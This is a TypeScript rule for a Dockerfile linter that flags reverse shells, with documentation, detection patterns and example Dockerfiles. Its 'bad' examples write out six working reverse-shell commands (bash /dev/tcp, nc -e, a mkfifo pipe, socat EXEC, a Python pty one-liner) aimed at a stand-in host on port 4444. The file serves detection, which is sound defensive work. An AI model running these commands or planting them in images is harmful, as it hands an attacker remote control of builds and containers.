import type { DockerfileModel } from '../../syntax/model.ts';
import type { ShellCommand, ShellWord } from '../../syntax/shell/command.ts';
import { isShell } from '../../syntax/shell/interpreters.ts';
import { commandsMatching, commandsNamed, findFlags, nameWord, optionsOf, upstream } from '../queries/commands.ts';
import { runsItsInput } from '../queries/downloads.ts';
import { dropCommand } from '../queries/drop-command.ts';
import { fixWith } from '../queries/edits.ts';
import type { Rule, RuleHit } from '../rule.ts';

export const rule: Rule = {
  id: 'PL7012',
  slug: 'reverse-shell',
  title: 'Shell handed to the network',
  severity: 'critical',
  aliases: [],
  fixable: 'suggested',
  docs: {
    reports:
      'A shell connected to the network: `bash -i >& /dev/tcp/…`, `exec 5<>/dev/tcp/…` read by a shell, nc or ncat -e, socat EXEC:sh, a shell piped into or out of nc, telnet or openssl s_client, and one-liners in Python, Perl, PHP, Ruby, Node.js or PowerShell that join a socket and a shell. Probes of a port (`</dev/tcp/localhost/80`, `nc -z`) are not reported.',
    why: 'Whoever is at the other end types commands into the build or the container: this has no honest use in an image, and is what a planted backdoor looks like.',
    fix: 'Remove it, find out who put it there, and treat the images that were built from this file as taken over.',
    bad: [
      'FROM debian:12\nRUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
      'FROM debian:12\nRUN true && nc -e /bin/sh 203.0.113.7 4444\n',
      'FROM debian:12\nRUN rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n',
      'FROM debian:12\nCMD ["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr"]\n',
      'FROM python:3.13\nRUN python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'\n',
      'FROM debian:12\nRUN exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n',
    ],
    good: [
      'FROM debian:12\nHEALTHCHECK CMD bash -c "</dev/tcp/localhost/8080"\n',
      'FROM debian:12\nRUN until nc -z db 5432; do sleep 1; done && (echo > /dev/tcp/db/5432)\n',
      'FROM debian:12\nRUN exec 3<>/dev/tcp/localhost/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 | grep -q OK\n',
      'FROM python:3.13\nRUN python3 -c "import socket; print(socket.gethostname())"\n',
    ],
    references: ['https://attack.mitre.org/techniques/T1059/004/', 'https://attack.mitre.org/techniques/T1525/'],
  },
  *check(model) {
    if (!QUICK.test(model.text)) return;
    yield* shellsOnDevices(model);
    yield* networkTools(model);
    yield* oneLiners(model);
  },
};

const QUICK = /\/dev\/(?:tcp|udp)|\b(?:nc|ncat|netcat|socat|telnet|s_client)\b|socket|sockopen|TCPClient|net\.connect|net\.Socket/i;
const DEVICE = /^\/dev\/(?:tcp|udp)\//;

function report(
  model: DockerfileModel,
  command: ShellCommand,
  word: ShellWord | undefined,
  message: string,
  wholePipeline = false,
): readonly RuleHit[] {
  const fixes = fixWith('suggested', 'Remove it', dropCommand(model, command, wholePipeline));
  return word === undefined ? [] : [{ message, range: word.range, fixes }];
}

/** bash's own network devices. */
function* shellsOnDevices(model: DockerfileModel): Generator<RuleHit> {
  for (const command of model.commands()) {
    if (command.redirects.length === 0 || command.wrapper?.redirects === command.redirects) continue;
    const device = command.redirects.find(({ target }) => target !== undefined && DEVICE.test(target.value));
    if (device === undefined) continue;
    const { name } = command;
    if (isShell(name) && (runsItsInput(command) || device.operator.startsWith('<')))
      yield* report(model, command, device.target, `${name} takes its commands from the network here`);
    else if (name === 'exec' && device.descriptor !== undefined && isRead(model, command, String(device.descriptor)))
      yield* report(model, command, device.target, 'What comes over this connection is run as commands');
  }
}

/** True when something that is read from the descriptor is run: `sh <&5`, `cat <&5 | while read l; do $l; done`. */
function isRead(model: DockerfileModel, opened: ShellCommand, descriptor: string): boolean {
  return model.commandsOf(opened.instruction).some((command) => {
    const runs = isShell(command.name) || command.name === 'eval' || command.words[0]?.value.startsWith('$') === true;
    return (
      runs &&
      [command, ...upstream(command)].some(({ redirects }) =>
        redirects.some(({ operator, target }) => operator === '<&' && target?.value === descriptor),
      )
    );
  });
}

const CONNECTORS = /^(?:nc|ncat|netcat|nc\.\w{1,20}|telnet|openssl)$/;

function* networkTools(model: DockerfileModel): Generator<RuleHit> {
  for (const command of commandsMatching(model, CONNECTORS)) {
    if (command.name !== 'telnet' && command.name !== 'openssl') yield* executingOption(model, command);
    if (command.name === 'openssl' && command.args[0]?.value !== 's_client') continue;
    const fed = upstream(command).find((feeder) => isShell(feeder.name) && runsItsInput(feeder));
    if (fed !== undefined) yield* report(model, command, nameWord(fed), `${fed.name} answers to whoever is connected by ${command.name}`, true);
  }
  for (const command of commandsMatching(model, SHELLS)) {
    if (command.places.length === 0 || !runsItsInput(command)) continue;
    const feeder = upstream(command).find(({ name, args }) => CONNECTORS.test(name) && (name !== 'openssl' || args[0]?.value === 's_client'));
    if (feeder !== undefined)
      yield* report(model, command, nameWord(command), `${command.name} runs what comes over the network by ${feeder.name}`, true);
  }
  for (const command of commandsNamed(model, 'socat')) {
    const word = command.args.find(({ value }) => /^(?:exec|system):["']?(?:\/\S{1,60}\/)?(?:ba|da|z|k|a)?sh\b/i.test(value));
    yield* report(model, command, word, 'socat hands this shell to the network');
  }
}

const SHELLS = /^(?:sh|bash|dash|ash|zsh|ksh)$/;

function* executingOption(model: DockerfileModel, command: ShellCommand): Generator<RuleHit> {
  const executed = [
    ...findFlags(command, { short: 'e', long: 'exec' }),
    ...findFlags(command, { long: 'sh-exec' }),
    ...findFlags(command, { long: 'lua-exec' }),
  ];
  // OpenBSD's -c asks for TLS and takes no value.
  const [shell] = findFlags(command, { short: 'c' }).filter(() =>
    optionsOf(command).operands.some(({ value }) => /^(?:\/\S{1,60}\/)?(?:ba|da|z|k|a)?sh$/.test(value)),
  );
  const option = executed[0] ?? shell;
  if (option !== undefined)
    yield* report(
      model,
      command,
      option.word,
      `${command.name} hands the program behind ${option.isLong ? `--${option.name}` : `-${option.name}`} to the network`,
    );
}

const LANGUAGES = /^(?:python[\d.]*|perl[\d.]*|php[\d.]*|ruby[\d.]*|node|nodejs|lua[\d.]*|powershell|pwsh)$/;
const OPENS_SOCKET = /socket|sockopen|net\.(?:connect|Socket)|Net\.Sockets\.TCPClient/i;
const RUNS_SHELL = /pty\.spawn|dup2|["'`](?:\/bin\/)?(?:ba|da|z)?sh\b|\/bin\/(?:ba|da|z)?sh\b|cmd\.exe|child_process|Invoke-Expression|\biex\b/i;
/** Longest program on a command line that is looked through. */
const MAX_PROGRAM = 16_384;

function* oneLiners(model: DockerfileModel): Generator<RuleHit> {
  for (const command of commandsMatching(model, LANGUAGES)) {
    if (command.language === 'powershell') continue;
    const given = command.redirects.flatMap(({ body }) => (body === undefined ? [] : [body.text]));
    const programs = [...command.args.map(({ value }) => value), ...given];
    const isPowershell = command.name === 'powershell' || command.name === 'pwsh';
    const isFound = isPowershell ? joinsSocketAndShell(programs.join(' ')) : programs.some((program) => joinsSocketAndShell(program));
    if (isFound) yield* report(model, command, nameWord(command), `This ${command.name} program joins a network connection and a shell`);
  }
  for (const command of model.commands()) {
    if (command.language !== 'powershell' || !command.words.some(({ value }) => /Net\.Sockets\.TCPClient/i.test(value))) continue;
    if (command.wrapper?.name === 'powershell' || command.wrapper?.name === 'pwsh') continue;
    const runs = model.commandsOf(command.instruction).find(({ name }) => name === 'iex' || name === 'invoke-expression');
    if (runs !== undefined) yield* report(model, runs, nameWord(runs), 'What comes over the network connection is run as commands');
  }
}

function joinsSocketAndShell(program: string): boolean {
  const text = program.slice(0, MAX_PROGRAM);
  return OPENS_SOCKET.test(text) && RUNS_SHELL.test(text);
}
